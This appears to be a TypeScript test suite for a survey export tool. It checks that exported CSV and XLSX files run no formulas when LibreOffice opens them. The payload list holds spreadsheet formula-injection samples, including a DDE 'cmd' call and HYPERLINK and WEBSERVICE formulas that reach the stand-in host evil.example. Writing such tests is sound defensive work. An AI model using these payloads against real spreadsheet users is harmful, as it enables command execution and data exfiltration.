import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { safeText } from './cell.ts';
import { writeCsv } from './csv.ts';
import type { Table } from './table.ts';
import { writeXlsx } from './xlsx.ts';

/** What somebody would answer with to have a spreadsheet run it, and what only looks like that. */
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '\u00a0=', '  +', ';='];
const FORMULAS = [
  '1+1',
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
  'WEBSERVICE("http://evil.example")',
];
const PAYLOADS = [
  ...STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula)),
  ...['хорошо\n=1+1', 'да;=1+1', '"=1+1"', '","=1+1', "'=1+1", '%0A=1+1', 'обычный ответ', '8 (900) 000-00-00', '-'],
];

const table: Table = {
  head: [
    ['id', 'said', 'age'],
    ['Номер', '=1+1', 'Возраст'],
  ],
  async *pages() {
    yield PAYLOADS.map((payload, at) => [at, payload, -at]);
  },
};

const isHere = spawnSync('soffice', ['--version']).status === 0;

describe(
  'an export opened in LibreOffice',
  { skip: !isHere && 'There is no soffice here: .ci/run installs it' },
  () => {
    const folder = mkdtempSync(join(tmpdir(), 'otklik-office-'));
    after(() => rmSync(folder, { recursive: true }));

    /** Sheets as flat XML, which says of every cell whether it is a formula. */
    const open = (files: readonly string[], ...filter: string[]): string[] => {
      const profile = `-env:UserInstallation=file://${folder}/profile`;
      const paths = files.map((file) => join(folder, file));
      const args = [profile, '--headless', ...filter, '--convert-to', 'fods', '--outdir', folder, ...paths];
      const { status, stderr } = spawnSync('soffice', args, { encoding: 'utf8' });
      assert.equal(status, 0, stderr);
      return paths.map((path) => readFileSync(path.replace(/\.\w+$/, '.fods'), 'utf8').replaceAll('&apos;', "'"));
    };

    /** Quotes, UTF-8, from the first line, and formulas taken for formulas, which LibreOffice asks about. */
    const cutAt = (separator: number) => `--infilter=CSV:${separator},34,76,1,,0,false,true,false,false,false,-1,true`;

    /** The types of the cells of a column that are no text. */
    const numbersIn = (sheet: string) =>
      [...sheet.matchAll(/office:value-type="float" office:value="(-?\d+)"/g)].length;

    it('runs nothing of an .xlsx, and keeps every answer and number', async () => {
      writeFileSync(join(folder, 'answers.xlsx'), await writeXlsx(table));
      const [sheet] = open(['answers.xlsx']) as [string];
      assert.equal(sheet.match(/table:formula/g), null);
      assert.equal(numbersIn(sheet), 2 * PAYLOADS.length);
      for (const payload of PAYLOADS.filter((each) => /^[^\s<>&"']+$/.test(each)))
        assert.ok(sheet.includes(safeText(payload)), payload);
    });

    // As LibreOffice opens a file by itself, and as Russian regional settings cut it.
    for (const [name, separator] of [
      ['commas', 44],
      ['semicolons', 59],
    ] as const) {
      it(`runs nothing of a .csv that is cut at ${name}, and would of one that is not made safe`, async () => {
        writeFileSync(join(folder, `${name}.csv`), Buffer.from(await new Response(writeCsv(table)).arrayBuffer()));
        writeFileSync(join(folder, `unsafe-${name}.csv`), '"=1+1"\r\n');
        const [sheet, unsafe] = open([`${name}.csv`, `unsafe-${name}.csv`], cutAt(separator)) as [string, string];
        assert.equal(sheet.match(/table:formula/g), null);
        assert.match(unsafe, /table:formula/);
        if (separator === 44) assert.equal(numbersIn(sheet), 2 * PAYLOADS.length);
      });
    }
  },
);
